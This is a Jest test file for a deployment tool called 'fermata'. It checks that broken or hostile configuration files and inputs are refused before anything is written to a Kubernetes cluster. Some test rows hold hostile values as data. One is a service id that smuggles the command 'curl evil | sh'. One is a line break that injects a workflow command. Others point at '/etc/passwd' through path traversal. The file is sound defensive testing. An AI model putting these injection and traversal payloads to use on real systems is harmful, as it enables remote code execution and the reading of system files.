import { afterAll, beforeAll, describe, expect, jest, test } from '@jest/globals'
import { expectRefusal, type Refusal } from './support/refusal.ts'
import { fermata, runAction } from './support/steps.ts'
import { type Content, folderWith, removeFolders, repositoryWith } from './support/workspace.ts'
import { hasWritten, imageFor, sketch, startWorld, type World } from './support/world.ts'

jest.setTimeout(60_000)

const sound = sketch({ db: {}, cart: { needs: ['db'] } })
const code = 'FM-RUNNER-CONFIGURATION'
const catalog = (text: string): Content => ({ 'fermata.yaml': text })
const service = (id: string, more = ''): string => `services:\n  ${id}:\n    manifests: [k8s/db.yaml]\n${more}`

interface Row {
  readonly when: string
  /** On top of a sound repository. */
  readonly files?: Content
  readonly inputs?: Readonly<Record<string, string>>
  readonly refusal: Omit<Refusal, 'code'> & Partial<Pick<Refusal, 'code'>>
}

const rows: readonly Row[] = [
  { when: 'no catalog', files: { 'fermata.yaml': undefined }, refusal: { says: /fermata\.yaml.*deployment-config\.yaml/, remedy: /fermata init/ } },
  { when: 'a catalog that is not there', inputs: { config: 'nowhere.yaml' }, refusal: { says: /nowhere\.yaml/ } },
  { when: 'an empty catalog', files: catalog(''), refusal: { says: /neither services nor slos/, at: 'fermata.yaml:1:1' } },
  { when: 'a catalog that is a list', files: catalog('- db\n- cart\n'), refusal: { says: /a list and not a mapping/, remedy: /services:/, at: 'fermata.yaml:1:1' } },
  { when: 'a catalog that is a word', files: catalog('services\n'), refusal: { says: /a single value and not a mapping/, at: 'fermata.yaml:1:1' } },
  { when: 'tabs', files: catalog('services:\n\tdb:\n\t\tpaths: [db]\n'), refusal: { says: /tab/i, remedy: /spaces only/, at: 'fermata.yaml:2:1' } },
  { when: 'a key twice', files: catalog(`${service('db')}  db:\n    paths: [db]\n`), refusal: { says: /db.*(twice|duplicate|already)|(twice|duplicate).*db/i, at: 'fermata.yaml:4:3' } },
  { when: 'a catalog of 50 MB', files: catalog(`${service('db')}#${'x'.repeat(50_000_000)}\n`), refusal: { says: /50\.0 million/, at: 'fermata.yaml:1:1' } },
  { when: 'a service id that is a command', files: catalog(service('"db; curl evil | sh"')), refusal: { says: /curl evil/, at: 'fermata.yaml:2:3' } },
  { when: 'a service id with a line break and a workflow command', files: catalog(service('"x\\n::error::owned"')), refusal: { says: /owned/, at: 'fermata.yaml:2:3' } },
  { when: 'a manifest outside of the repository', files: catalog('services:\n  db:\n    manifests: [../../etc/passwd]\n'), refusal: { says: /\.\.\/\.\.\/etc\/passwd/, at: 'fermata.yaml:3:17' } },
  { when: 'a manifest at an absolute path', files: catalog('services:\n  db:\n    manifests: [/etc/passwd]\n'), refusal: { says: /\/etc\/passwd/, at: 'fermata.yaml:3:17' } },
  { when: 'a catalog outside of the repository', inputs: { config: '../../etc/passwd' }, refusal: { says: /\.\.\/\.\.\/etc\/passwd/ } },
  { when: 'a manifest that is not there', files: { 'k8s/cart.yaml': undefined }, refusal: { says: /k8s\/cart\.yaml/, at: 'fermata.yaml:10:3' } },
  { when: 'a manifest that is not Kubernetes', files: { 'k8s/cart.yaml': 'just: text\n' }, refusal: { says: /apiVersion|kind/, at: 'k8s/cart.yaml:1:1' } },
  { when: 'a manifest that is no YAML', files: { 'k8s/cart.yaml': 'a: b\nc: [d\n' }, refusal: { says: /begins with \[ here is never closed/, at: 'k8s/cart.yaml:2:4' } },
  { when: 'an image in a manifest that is no reference', files: { 'k8s/cart.yaml': sketch({ cart: { version: 1 } })['k8s/cart.yaml']?.toString().replace(imageFor('cart', 1), 'Registry/Cart:one two') }, refusal: { says: /Registry\/Cart:one two/, at: 'k8s/cart.yaml:11:26' } },
  { when: 'an image in the inputs that is no reference', inputs: { images: '{"cart":"cart:2 "}' }, refusal: { says: /images.*cart/ } },
  { when: 'images that are no JSON', inputs: { images: 'cart=cart:2' }, refusal: { says: /images/ } },
  { when: 'a service that is not in the catalog', inputs: { services: 'crat' }, refusal: { says: /crat/, remedy: /cart/ } },
  { when: 'a mode that is none', inputs: { mode: 'aply' }, refusal: { says: /mode.*aply/, remedy: /apply/ } },
  { when: 'a working directory that is none', inputs: { 'working-directory': 'nowhere' }, refusal: { says: /nowhere/ } },
]

let world: World
beforeAll(async () => {
  world = await startWorld({ namespaces: ['shop'] })
})
afterAll(async () => {
  await world.close()
  removeFolders()
})

describe('a release is refused before anything is written:', () => {
  test.each(rows.map((row) => [row.when, row] as const))('%s', async (_, { files = {}, inputs, refusal }) => {
    const workspace = repositoryWith(sound)
    const { kubeconfig } = world.open(workspace, 'shop')
    workspace.commit(files)
    const ended = await runAction('orchestrated-deploy', workspace, { inputs: { mode: 'apply', kubeconfig, ...inputs } })
    expectRefusal(ended, workspace, { code, ...refusal })
    expect(ended.log).not.toMatch(/^::error::owned/m)
    expect(workspace.strays()).toEqual([])
    expect(world.cluster.requests.all().filter(hasWritten)).toEqual([])
  })
})

test('all that is wrong with the inputs is said together, and nothing is begun', async () => {
  const workspace = repositoryWith(sound)
  const ended = await runAction('orchestrated-deploy', workspace, { inputs: { mode: 'aply', timeout: 'soon', parallelism: 'many', 'on-failure': 'panic' } })
  for (const says of [/mode/, /timeout/, /parallelism/, /on-failure/]) expectRefusal(ended, workspace, { code, says })
})

test('on the command line the same mistake is exit code 2, on stderr and in every form of output', async () => {
  const workspace = folderWith(catalog('- db\n'))
  const [text, json, junit, quiet] = await Promise.all(['text', 'json', 'junit', 'quiet'].map((output) => fermata(['graph', '--output', output], workspace)))
  expect([text, json, junit, quiet].map((typed) => typed?.code)).toEqual([2, 2, 2, 2])
  expect(`${text?.stdout}${text?.stderr}`).toContain('fermata.yaml:1:1')
  expect(JSON.parse(json?.stdout ?? '')).toMatchObject({ verdict: 'fail', reasons: [{ code, location: { file: 'fermata.yaml', line: 1, column: 1 } }] })
  expect(junit?.stdout).toContain('fermata.yaml:1:1')
  expect(quiet?.stdout).toBe('')
})

test('outputs are there also where the job summary cannot be written', async () => {
  const workspace = repositoryWith(catalog(''))
  const ended = await runAction('orchestrated-deploy', workspace, { environment: { GITHUB_STEP_SUMMARY: workspace.path } })
  expect(ended.code).toBe(1)
  expect(ended.outputs).toMatchObject({ verdict: 'fail', summary: expect.stringContaining('services'), report: expect.stringContaining('report.json') })
  expect(ended.log).toContain('::error::')
})
